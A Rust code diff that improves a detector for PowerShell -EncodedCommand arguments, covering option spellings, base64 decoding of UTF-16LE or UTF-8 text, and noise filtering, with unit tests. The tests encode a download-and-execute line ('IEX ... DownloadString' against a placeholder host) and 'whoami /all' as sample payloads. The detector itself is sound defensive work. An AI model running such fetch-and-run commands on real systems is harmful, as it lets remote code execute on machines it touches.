@@ -12,69 +12,97 @@ const B64: GeneralPurpose = GeneralPurpose::new(
         .with_decode_allow_trailing_bits(true),
 );
 
-/// Arguments larger than this are not decoded.
+/// Arguments larger than this (1 MiB) are not decoded.
 const MAX_ENCODED: usize = 1 << 20;
 
+/// Shorter arguments are not decoded: too little to tell text from noise.
+const MIN_ENCODED: usize = 4;
+
 /// Is `token` (an option) PowerShell's `-EncodedCommand` in one of its
-/// accepted spellings: `-e`, `-ec`, `-en` ... `-encodedcommand`?
+/// accepted spellings: `-e`, `-ec`, `-en` ... `-encodedcommand`, with `-` or
+/// `/`, any case, possibly in double quotes?
 fn is_encoded_option(token: &str) -> bool {
+    let token = token.trim_matches('"');
     let Some(name) = token.strip_prefix(['-', '/']) else {
         return false;
     };
-    let name = name.to_ascii_lowercase();
-    name == "e" || name == "ec" || (name.len() >= 2 && "encodedcommand".starts_with(&name))
+    const FULL: &str = "encodedcommand";
+    match name.len() {
+        1 => name.eq_ignore_ascii_case("e"),
+        2..=14 => name.eq_ignore_ascii_case("ec") || name.eq_ignore_ascii_case(&FULL[..name.len()]),
+        _ => false,
+    }
+}
+
+/// An argument without the quotes around it.
+fn unquote(token: &str) -> &str {
+    token.trim_matches(['"', '\''])
 }
 
 /// Decodes every `-EncodedCommand` argument of a cleaned command line (case
-/// kept, tokens separated by single spaces).
+/// kept, tokens separated by single spaces), joined by newlines.
 pub(super) fn encoded_commands(cleaned: &str) -> Option<String> {
-    let tokens: Vec<&str> = cleaned.split(' ').collect();
-    let mut out: Vec<String> = Vec::new();
-    for pair in tokens.windows(2) {
-        if !is_encoded_option(pair[0]) {
-            continue;
+    let mut out: Option<String> = None;
+    let mut after_option = false;
+    for token in cleaned.split(' ') {
+        if after_option {
+            if let Some(text) = decode_text(unquote(token)) {
+                match &mut out {
+                    Some(o) => {
+                        o.push('\n');
+                        o.push_str(&text);
+                    }
+                    None => out = Some(text),
+                }
+            }
         }
-        let arg = pair[1].trim_matches(['"', '\'']);
-        if arg.len() < 4 || arg.len() > MAX_ENCODED {
-            continue;
-        }
-        if let Some(text) = decode_text(arg) {
-            out.push(text);
-        }
+        after_option = is_encoded_option(token);
     }
-    (!out.is_empty()).then(|| out.join("\n"))
+    out
 }
 
 /// Base64 of UTF-16LE text (or, failing that, of UTF-8 text), if it decodes
 /// to mostly printable characters.
 fn decode_text(arg: &str) -> Option<String> {
+    if !(MIN_ENCODED..=MAX_ENCODED).contains(&arg.len()) {
+        return None;
+    }
     let bytes = B64.decode(arg).ok()?;
-    if bytes.len() >= 2 && bytes.len() % 2 == 0 {
-        let units = bytes
-            .chunks_exact(2)
-            .map(|c| u16::from_le_bytes([c[0], c[1]]));
-        let text: String = char::decode_utf16(units)
-            .map(|r| r.unwrap_or(char::REPLACEMENT_CHARACTER))
-            .collect();
-        if printable(&text) {
-            return Some(text);
-        }
+    if let Some(text) = utf16_text(&bytes) {
+        return Some(text);
     }
     let text = String::from_utf8(bytes).ok()?;
     printable(&text).then_some(text)
 }
 
-fn printable(text: &str) -> bool {
-    let total = text.chars().count();
-    if total == 0 {
-        return false;
+/// The bytes as UTF-16LE, if that reads as text: mostly printable, and at
+/// least half ASCII (PowerShell is; bytes that merely happen to pair up read
+/// as scattered CJK and other scripts instead).
+fn utf16_text(bytes: &[u8]) -> Option<String> {
+    if bytes.is_empty() || bytes.len() % 2 != 0 {
+        return None;
     }
-    let good = text
-        .chars()
-        .filter(|&c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
-        .filter(|&c| c != char::REPLACEMENT_CHARACTER)
-        .count();
-    good * 10 >= total * 9
+    let units = bytes
+        .chunks_exact(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]));
+    let text: String = char::decode_utf16(units)
+        .map(|r| r.unwrap_or(char::REPLACEMENT_CHARACTER))
+        .collect();
+    let (total, ascii) = text.chars().fold((0usize, 0usize), |(t, a), c| {
+        (t + 1, a + usize::from(c.is_ascii()))
+    });
+    (ascii * 2 >= total && printable(&text)).then_some(text)
+}
+
+/// At least 90% of the characters are neither control characters (other
+/// than line breaks and tabs) nor replacement characters.
+fn printable(text: &str) -> bool {
+    let (total, good) = text.chars().fold((0usize, 0usize), |(t, g), c| {
+        let ok = (!c.is_control() || matches!(c, '\n' | '\r' | '\t'))
+            && c != char::REPLACEMENT_CHARACTER;
+        (t + 1, g + usize::from(ok))
+    });
+    total > 0 && good * 10 >= total * 9
 }
 
 #[cfg(test)]
@@ -89,12 +117,43 @@ mod tests {
     #[test]
     fn every_spelling_of_the_option_decodes() {
         let payload = utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
-        for opt in ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/enc", "-ENCOD"] {
+        for opt in [
+            "-e",
+            "-ec",
+            "-en",
+            "-enc",
+            "-EncodedCommand",
+            "/enc",
+            "-ENCOD",
+            "\"-enc\"",
+            "-EC",
+        ] {
             let line = format!("powershell -nop {opt} {payload}");
             let d = encoded_commands(&line).unwrap_or_default();
             assert!(d.contains("DownloadString"), "{opt}: {d:?}");
         }
+        for opt in ["-ex", "-encodedcommandx", "-", "-c", "-ecx", "e", "-é"] {
+            let line = format!("powershell {opt} {payload}");
+            assert_eq!(encoded_commands(&line), None, "{opt}");
+        }
         assert_eq!(encoded_commands("powershell -ex bypass -file a.ps1"), None);
         assert_eq!(encoded_commands("powershell -enc !!notbase64!!"), None);
+    }
+
+    #[test]
+    fn text_is_told_from_noise() {
+        // UTF-8 payloads decode as UTF-8, not as the CJK their bytes pair into.
+        let utf8 = base64::engine::general_purpose::STANDARD.encode("whoami /all");
+        assert_eq!(decode_text(&utf8).as_deref(), Some("whoami /all"));
+        // Missing padding is tolerated.
+        let unpadded = utf16_b64("whoami").trim_end_matches('=').to_string();
+        assert_eq!(decode_text(&unpadded).as_deref(), Some("whoami"));
+        // Ordinary words that happen to be base64 are not text.
+        for word in ["password", "hostname", "AAAAAAAA", "bypass12"] {
+            assert_eq!(decode_text(word), None, "{word}");
+        }
+        let binary =
+            base64::engine::general_purpose::STANDARD.encode([0u8, 1, 2, 3, 4, 5, 0xff, 0xfe]);
+        assert_eq!(decode_text(&binary), None);
     }
 }
